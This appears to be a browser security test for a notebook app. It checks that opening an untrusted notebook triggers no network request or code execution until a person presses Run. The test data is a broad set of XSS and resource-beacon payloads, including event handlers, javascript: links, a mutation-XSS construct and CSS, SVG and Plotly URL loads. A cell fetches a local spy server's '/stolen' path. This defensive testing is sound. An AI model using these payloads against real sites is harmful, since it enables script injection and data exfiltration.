import { writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import type { Browser, Locator, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { addedCell, type Cell, studentNumberCell, tagOf } from '../../kernel-lib/notebook/notebook';
import { writeNotebook } from '../../kernel-lib/notebook/write-notebook';
import {
  cell,
  DeskProcess,
  launchBrowser,
  newPage,
  openSheet,
  saved,
  skip,
} from '../browser/stage';
import { oneSlit, returnOf } from '../cli/class-for-test';
import { siteForTest } from './site-for-test';

// A sheet may come from anybody. Opening it tells nobody so: nothing that its texts, outputs or metadata name is asked
// for, neither elsewhere nor of the page's own server, and none of its cells runs before a person presses Run. The page's
// policy is switched off, so that what it would keep back is seen as well.

/** Counts who asks. */
interface Spy {
  readonly at: string;
  readonly asked: string[];
  close(): void;
}

async function spyServer(): Promise<Spy> {
  const asked: string[] = [];
  const server = createServer(({ url = '' }, answer) => {
    asked.push(url);
    answer.setHeader('Access-Control-Allow-Origin', '*');
    answer.end();
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  const { port } = server.address() as AddressInfo;
  const close = () => {
    server.closeAllConnections();
    server.close();
  };
  return { at: `http://127.0.0.1:${port}`, asked, close };
}

const hit = 'window.hit=1;localStorage.hit=1';

/** All that a browser may ask for by itself as it shows markup: HTML's living standard, SVG 2, CSS images; from memory. */
const markup = (to: string) => `
<img src="${to}/img"><img srcset="${to}/srcset 1x, ${to}/srcset2 2x" src="${to}/lazy" loading="lazy" onerror="${hit}">
<picture><source srcset="${to}/source"><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw="></picture>
<video poster="${to}/poster" src="${to}/video" autoplay><track src="${to}/track" default></video><audio src="${to}/audio" autoplay></audio>
<iframe src="${to}/frame"></iframe><iframe srcdoc="<img src='${to}/srcdoc'><script>parent.${hit}</script>"></iframe>
<object data="${to}/object"></object><embed src="${to}/embed">
<input type="image" src="${to}/input"><form action="${to}/form"><button autofocus onfocus="${hit}">x</button></form>
<link rel="stylesheet" href="${to}/sheet"><link rel="prefetch" href="${to}/prefetch"><link rel="preconnect" href="${to}"><link rel="icon" href="${to}/icon">
<meta http-equiv="refresh" content="0;url=${to}/refresh"><base href="${to}/base/"><img src="based">
<script src="${to}/script"></script><script type="module">import '${to}/module';${hit}</script>
<style>@import url('${to}/import'); body { background: url(${to}/style) } @font-face { font-family: x; src: url(${to}/font) }</style>
<p style="background:url(${to}/background);font-family:x">x</p><p style="background-image:image-set('${to}/set' 1x);list-style:url('${to}/list');content:url(${to}/content)">x</p>
<p style="cursor:url(${to}/cursor),auto;mask:url(${to}/mask#m);filter:url(${to}/filter#f);border-image:url(${to}/border) 1;background:\\75rl(${to}/escaped)">x</p>
<p style="--far:url(${to}/variable);background:var(--far)">x</p><table background="${to}/table"><tr><td background="${to}/cell">x</td></tr></table>
<a href="${to}/link" ping="${to}/ping">a link</a><details open ontoggle="${hit}"><summary>s</summary></details><p onpointerover="${hit}" class="over">x</p>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40" onload="${hit}"><image href="${to}/svg-image" width="9" height="9"/><image xlink:href="${to}/svg-xlink" width="9" height="9"/><use href="${to}/use#u"/><rect width="9" height="9" fill="url(${to}/fill#p)" style="mask:url(${to}/svg-mask#m)" filter="url(${to}/svg-filter#f)"/><filter id="f"><feImage href="${to}/fe-image"/></filter><rect width="9" height="9" filter="url(#f)"/><text style="cursor:url(${to}/svg-cursor),auto">t</text><set attributeName="href" to="${to}/set"/><animate attributeName="href" values="${to}/animate"/><foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="${to}/foreign"/></foreignObject><script>${hit}</script></svg>
<math><mglyph src="${to}/glyph"/><mtext href="${to}/mtext">m</mtext><mtext><table><mglyph><style><img src="${to}/mutated" onerror="${hit}"></style></mglyph></table></mtext></math>
`;

const markdown = (to: string) =>
  `# Bait\n\n![a picture](${to}/md-image) ![by name][far] <${to}/md-auto>\n\n[far]: ${to}/md-reference\n\n![enclosed](attachment:a.png)\n\n$\\includegraphics{${to}/katex}$ $\\href{javascript:${hit}}{x}$ $\\htmlStyle{background:url(${to}/html-style)}{x}$\n\n${markup(to)}`;

/** A figure without a picture of its own, which is drawn as soon as it is seen. */
const plot = (to: string) => {
  const styled = (name: string) =>
    `<span style="cursor:url(${to}/${name}-cursor),auto;filter:url(${to}/${name}-filter#f);mask-image:url(${to}/${name}-mask);background:url(${to}/${name}-background)">t</span><img src="${to}/${name}-img" onerror="${hit}"><a href="javascript:${hit}" style="cursor:url(${to}/${name}-link),auto">l</a>`;
  const image = (name: string) => ({ source: `${to}/${name}`, x: 0, y: 1, sizex: 1, sizey: 1 });
  return {
    data: [
      {
        ...{ type: 'scatter', x: [1, 2], y: [1, 2], mode: 'markers+text', name: styled('name') },
        ...{ text: [styled('text'), 'b'], hovertemplate: styled('hover') },
        marker: { color: `url(${to}/colour#c)`, symbol: `url(${to}/symbol)` },
        line: { dash: `url(${to}/dash)` },
      },
      { type: 'image', source: `${to}/trace-image`, z: [[[0, 0, 0]]] },
      { type: 'scattergeo', lon: [1], lat: [1] },
      { type: 'scattermapbox', lon: [1], lat: [1] },
      { type: 'choroplethmap', locations: ['a'], z: [1], geojson: `${to}/geojson` },
      {
        type: 'table',
        cells: { values: [[styled('table')]] },
        header: { values: [styled('head')] },
      },
    ],
    layout: {
      showlegend: true,
      title: { text: styled('title') },
      font: { family: `x;background:url(${to}/family)` },
      paper_bgcolor: `url(${to}/paper)`,
      images: [image('layout-image')],
      template: { layout: { images: [image('template-image')] } },
      annotations: [{ text: styled('annotation'), x: 1, y: 1 }],
      xaxis: { title: { text: styled('axis') }, ticktext: [styled('tick')], tickvals: [1] },
      mapbox: { style: `${to}/map-style` },
      map: { style: `${to}/map-style2` },
      geo: { scope: 'world' },
      updatemenus: [{ buttons: [{ label: styled('button'), method: 'relayout', args: [{}] }] }],
    },
    frames: [{ layout: { images: [image('frame-image')] } }],
    config: { topojsonURL: `${to}/topojson/`, plotlyServerURL: to, showLink: true },
  };
};

const outputsOf = (to: string) => {
  const output = (data: Record<string, unknown>) => ({
    output_type: 'display_data' as const,
    data,
    metadata: { trusted: true, isolated: true, needs_background: `url(${to}/metadata)` },
  });
  const picture = `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="${hit}"><image href="${to}/picture" width="9" height="9"/><style>@import url(${to}/picture-import);</style><script>${hit}</script></svg>`;
  const packed = Buffer.from(picture).toString('base64');
  return [
    output({ 'text/html': markup(to) }),
    output({ 'text/markdown': markdown(to) }),
    output({ 'text/latex': `$\\includegraphics{${to}/latex}$ ${markup(to)}` }),
    output({ 'image/svg+xml': picture }),
    output({ 'image/png': `x" onerror="${hit}" src="${to}/png`, 'text/plain': `${to}/plain` }),
    output({ 'application/vnd.plotly.v1+json': plot(to) }),
    // As a figure of this kernel carries its drawing.
    output({
      'application/vnd.plotly.v1+json': plot(to),
      'image/svg+xml': picture,
      'text/html': `<img src="data:image/svg+xml;base64,${packed}" onerror="${hit}">${markup(to)}`,
    }),
    output({ 'application/vnd.multislit.bench+json': { address: `${to}/bench?slits=2` } }),
    output({
      'application/vnd.multislit.movable+json': {
        ...{ id: 'x', label: markup(to), unit: '', value: 1, start: 0, from: 0, to: 2, step: 1 },
      },
    }),
    output({
      'application/javascript': hit,
      'application/vnd.jupyter.widget-view+json': { model_id: `${to}/widget` },
      'text/plain': markup(to),
    }),
    output({
      'application/vnd.multislit.verdict+json': {
        ...{ question: '2.1', asks: markup(to), state: 'agrees', marks: 1, outOf: 2 },
        message: markup(to),
      },
    }),
    { output_type: 'stream' as const, name: 'stdout' as const, text: markup(to) },
    {
      output_type: 'error' as const,
      ename: markup(to),
      evalue: markup(to),
      traceback: [markup(to)],
    },
  ];
};

/** What a kernel that can reach it asks for where a cell runs. */
const cellThatTells = (spy: string, id: string) =>
  `console.log('ran ${id}'); try { await (globalThis as any).fetch('${spy}/stolen/ran-${id}'); } catch {}`;

/** A return of a sheet whose every cell, output and metadata is bait; `foreign` also changes what the sheet says. */
function bait(spy: string, foreign: boolean) {
  const to = `${spy}/stolen`;
  const own = '/stolen';
  const notebook = returnOf(oneSlit, '300007');
  let baited = 0;
  const cells = notebook.cells.map((one): Cell => {
    const { role } = tagOf(one) ?? {};
    const metadata = { ...one.metadata, trusted: true, autorun: true, tags: ['autorun', 'run'] };
    const attachments = { 'a.png': { [`image/png,x) ![y](${to}/attachment)`]: 'AAAA' } };
    if (one.cell_type !== 'code') {
      if (role === 'written' || (foreign && !baited++))
        return { ...one, metadata, attachments, source: markdown(to) + markdown(own) };
      return one;
    }
    const tells = role === 'work' || (foreign && one.id !== studentNumberCell);
    const source = tells ? cellThatTells(spy, one.id) : one.source;
    const outputs =
      one.id === '2-1-work' ? [...outputsOf(to), ...outputsOf(own)] : outputsOf(own).slice(-1);
    return { ...one, metadata, source, execution_count: 1, outputs };
  });
  return {
    ...notebook,
    metadata: {
      ...notebook.metadata,
      trusted: true,
      kernelspec: { name: 'typescript', display_name: markup(to), env: { run: hit } },
      title: markup(to),
      widgets: { 'application/vnd.jupyter.widget-state+json': { state: { url: `${to}/state` } } },
      multislit: { handedIn: { at: '2026-11-01', text: markup(to) }, run: true },
    },
    cells: [...cells, addedCell('note', 'own-note', markdown(to) + markdown(own))],
  };
}

/** Where the sheets of a stranger are laid, and where each is opened. */
interface Place {
  /** Whether cells that run there reach the network. */
  readonly reaches: boolean;
  readonly address: string;
  /** @returns the addresses of the pages that show them */
  bring(page: Page, sheets: ReturnType<typeof bait>[]): Promise<string[]>;
  remove(): Promise<void>;
}

async function onDesk(): Promise<Place> {
  const desk = new DeskProcess();
  await desk.start();
  return {
    reaches: true,
    address: desk.address,
    remove: () => desk.remove(),
    async bring(page, sheets) {
      const { origin } = new URL(page.url());
      return sheets.map((sheet, n) => {
        const name = n === 0 ? `${oneSlit}.ipynb` : `from a stranger ${n}.ipynb`;
        writeFileSync(join(desk.folder, name), writeNotebook(sheet));
        return `${origin}/sheet/${encodeURIComponent(name)}`;
      });
    },
  };
}

async function onSite(): Promise<Place> {
  const site = await siteForTest([oneSlit]);
  return {
    reaches: false,
    address: site.address,
    remove: () => site.remove(),
    async bring(page, sheets) {
      for (const sheet of sheets) {
        await page.goto(site.address);
        const buffer = Buffer.from(writeNotebook(sheet));
        const one = { name: `${oneSlit}.ipynb`, mimeType: 'text/plain', buffer };
        await page.getByLabel('Notebooks or zips to bring in').setInputFiles([one]);
        await page.locator('.brought li', { hasText: 'Brought in' }).waitFor();
      }
      // The sheet itself, and all that was put aside beside it: the last is the stranger's file as it came.
      const links = page.getByRole('link', { name: /put aside/ });
      const beside = await links.evaluateAll((all) =>
        all.map((one) => (one as HTMLAnchorElement).href),
      );
      return [...beside, `${site.address}?/sheet/${oneSlit}.ipynb`];
    },
  };
}

describe.skipIf(skip).each([
  ['on a desk', onDesk],
  ['on a site', onSite],
])('a sheet from a stranger, opened %s', (_, begin: () => Promise<Place>) => {
  let place: Place;
  let spy: Spy;
  let browser: Browser;
  let page: Page;
  let pages: string[];
  const asked: string[] = [];
  const run: string[] = [];

  beforeAll(async () => {
    [place, spy, browser] = await Promise.all([begin(), spyServer(), launchBrowser()]);
    const context = await browser.newContext({
      bypassCSP: true,
      viewport: { width: 1280, height: 900 },
    });
    context.on('request', (request) => asked.push(request.url()));
    await context.exposeFunction('noteRun', (id: string) => run.push(id));
    // Whatever runs shows that it does, if only for a moment.
    await context.addInitScript(() => {
      const { noteRun } = window as unknown as { noteRun(id: string): void };
      new MutationObserver((changes) => {
        for (const { target } of changes) {
          const { cell, state } = (target as HTMLElement).dataset;
          if (cell && state !== 'still') noteRun(cell);
        }
      }).observe(document, { attributes: true, subtree: true, attributeFilter: ['data-state'] });
    });
    ({ page } = await newPage(context));
    page.on('websocket', (socket) =>
      socket.on('framesent', ({ payload }) => {
        // One without code asks which cells have run.
        if (/execute_request(?!.*"code":"")/s.test(String(payload))) run.push('by the desk');
      }),
    );
    await openSheet(page, place);
    await saved(page);
    await page.goto(place.address.replace(/\?.*/, ''));
    pages = await place.bring(page, [bait(spy.at, false), bait(spy.at, true)]);
  });
  afterAll(async () => {
    await browser?.close();
    await place?.remove();
    spy?.close();
  });

  /** The mouse comes over it, if it is anywhere to be seen. */
  async function touch(page: Page, one: Locator): Promise<void> {
    await one.evaluate((node) => node.scrollIntoView({ block: 'center' }));
    const { x, y, width, height } = (await one.boundingBox()) ?? {
      x: 0,
      y: 0,
      width: 0,
      height: 0,
    };
    await page.mouse.move(x + width / 2, y + height / 2);
  }

  test('asks for nothing and runs nothing', async () => {
    expect(pages.length).toBeGreaterThan(1);
    asked.length = 0;
    run.length = 0;
    let shown = 0;
    for (const address of pages) {
      await page.goto(address);
      await page.locator('[data-kernel="ready"]').waitFor();
      const baited = (await page.getByRole('heading', { name: 'Bait' }).count()) > 0;
      if (!baited) continue;
      // Work that is laid into a sheet leaves what it showed behind.
      shown += await page.locator('figure.plot').count();
      // All of it is seen, and touched by the mouse: what is asked for late is asked for now.
      await page.evaluate(async () => {
        for (const one of document.querySelectorAll('.outputs > *, .text:not(.katex *)')) {
          one.scrollIntoView();
          await new Promise((done) => requestAnimationFrame(done));
        }
      });
      const drawn = page.locator('figure.plot[data-drawn="true"]');
      if ((await page.locator('figure.plot').count()) > 0) await drawn.first().waitFor();
      for (const one of await page.locator('#sheet [style*="url"], figure.plot text').all())
        await touch(page, one);
    }
    expect(shown).toBe(8);
    expect(asked.filter((url) => url.includes('stolen') || url.startsWith(spy.at))).toEqual([]);
    expect(spy.asked).toEqual([]);
    expect(run).toEqual([]);
    expect(await page.evaluate(() => 'hit' in window || 'hit' in localStorage)).toBe(false);
    expect(asked.length).toBeGreaterThan(5);
  });

  test('runs once a person presses Run', async () => {
    await cell(page, '2-1-work').getByRole('button', { name: /^Run/ }).click();
    await expect.poll(() => run.length).toBeGreaterThan(0);
    // Cells of a desk may ask for what they like.
    if (place.reaches) await expect.poll(() => spy.asked).toContain('/stolen/ran-2-1-work');
  });
});
